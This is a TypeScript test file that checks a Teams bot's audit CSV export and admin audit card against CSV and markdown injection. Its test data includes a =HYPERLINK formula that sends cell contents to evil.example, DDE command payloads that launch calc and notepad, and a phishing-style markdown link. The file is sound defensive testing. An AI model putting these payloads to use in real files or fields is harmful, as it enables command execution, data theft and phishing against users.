import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { AUDIT_CSV_COLUMNS, writeAuditCsv } from '../../src/tools/auditExport';
import { personalChat } from '../support/teamsActivities';
import {
  cardOf,
  cardText,
  executeActions,
  PEOPLE,
  type TeamsHarness,
} from '../support/teamsHarness';
import { guarded, repliesText, startHostile } from './support/hostileHarness';
import { HOSTILE_DEVICES } from './support/hostileTenant';
import { assertNoLiveMarkup } from './support/markdown';

/**
 * Text a technician types, or a device user sets as the device name, reaches the audit
 * log verbatim; the CSV export must never hand a spreadsheet a formula, and the admin's
 * `audit` card must never render it as markup.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** RFC 4180 rows of a CSV text (quoted cells, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted) {
      if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  return rows;
}

async function exportCsv(h: TeamsHarness): Promise<string[][]> {
  let text = '';
  const sink = new Writable({
    write(chunk: Buffer, _encoding, done) {
      text += chunk.toString('utf8');
      done();
    },
  });
  await writeAuditCsv(h.app.stores.audit, sink);
  return parseCsv(text);
}

interface CsvCase {
  name: string;
  /** What the technician types (its audit row holds the query). */
  text: string;
  /** The dangerous value as it must appear, defused, in some cell. */
  value: string;
}

const CASES: CsvCase[] = [
  {
    name: '=HYPERLINK(…) typed as a search',
    text: 'reset =HYPERLINK("https://evil.example/?"&A1,"Open")',
    value: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  },
  {
    name: "+cmd|' /C calc'!A0 (DDE) typed as a search",
    text: "reset +cmd|' /C calc'!A0",
    value: "+cmd|' /C calc'!A0",
  },
  {
    name: "-2+3+cmd|' /C notepad'!A0 typed as a search",
    text: "reset -2+3+cmd|' /C notepad'!A0",
    value: "-2+3+cmd|' /C notepad'!A0",
  },
  {
    name: '@SUM(1+9)*cmd typed as a search',
    text: "reset @SUM(1+9)*cmd|' /C calc'!A0",
    value: "@SUM(1+9)*cmd|' /C calc'!A0",
  },
];

describe('hostile: audit log export and audit card', function () {
  this.timeout(30_000);
  let h: TeamsHarness;

  before(async () => {
    h = await startHostile();
  });
  after(async () => {
    await h?.close();
  });

  /** The exported cell holding `value` (defused), with its column. */
  async function exportedCell(value: string): Promise<{ column: string; cell: string }> {
    const [header, ...rows] = await exportCsv(h);
    assert.deepEqual(header, [...AUDIT_CSV_COLUMNS]);
    for (const row of rows) {
      for (const [index, cell] of row.entries()) {
        if (cell.includes(value)) return { column: header?.[index] ?? '?', cell };
      }
    }
    throw new Error(`No exported cell holds ${value}`);
  }

  /** No cell of the whole export starts like a formula. */
  async function assertNoFormulaCell(): Promise<void> {
    const [, ...rows] = await exportCsv(h);
    for (const row of rows) {
      assert.equal(row.length, AUDIT_CSV_COLUMNS.length, `a row was split: ${row.join('|')}`);
      for (const cell of row) assert.ok(!FORMULA_START.test(cell), `formula cell: ${cell}`);
    }
  }

  for (const c of CASES) {
    it(`CSV injection: ${c.name} is exported as text`, async () => {
      await guarded(h, async () => {
        await h.say(h.activities.message(PEOPLE.megan, personalChat(PEOPLE.megan), c.text));
        const { column, cell } = await exportedCell(c.value);
        assert.equal(column, 'detail');
        assert.equal(cell, `'${c.value}`);
        await assertNoFormulaCell();
      });
    });
  }

  it('CSV injection: a device renamed to =HYPERLINK(…) in Intune is exported as text', async () => {
    await guarded(h, async () => {
      const place = personalChat(PEOPLE.lee);
      const replies = await h.say(
        h.activities.message(PEOPLE.lee, place, `reset ${HOSTILE_DEVICES.formula.serial}`),
      );
      const pick = executeActions(cardOf(replies[0])).find((a) => a.verb === 'pick');
      assert.ok(pick, repliesText(replies));
      await h.invokeCard(h.activities.invoke(PEOPLE.lee, place, 'pick', pick.data, 'm-results'));
      const { column, cell } = await exportedCell(HOSTILE_DEVICES.formula.name);
      assert.equal(column, 'deviceName');
      assert.equal(cell, `'${HOSTILE_DEVICES.formula.name}`);
      await assertNoFormulaCell();
    });
  });

  it("markdown injection: device names and queries in the admin's audit card stay plain text", async () => {
    await guarded(h, async () => {
      const lee = personalChat(PEOPLE.lee);
      const replies = await h.say(
        h.activities.message(PEOPLE.lee, lee, `reset ${HOSTILE_DEVICES.markdown.serial}`),
      );
      const pick = executeActions(cardOf(replies[0])).find((a) => a.verb === 'pick');
      assert.ok(pick);
      await h.invokeCard(h.activities.invoke(PEOPLE.lee, lee, 'pick', pick.data, 'm-results'));
      const audit = await h.say(
        h.activities.message(PEOPLE.adele, personalChat(PEOPLE.adele), 'audit 20'),
      );
      const text = cardText(cardOf(audit[0]));
      assert.match(text, /\\\[Verify your identity\\\]\(https:\/\/evil\.example\/login\)/);
      assertNoLiveMarkup(text);
    });
  });
});
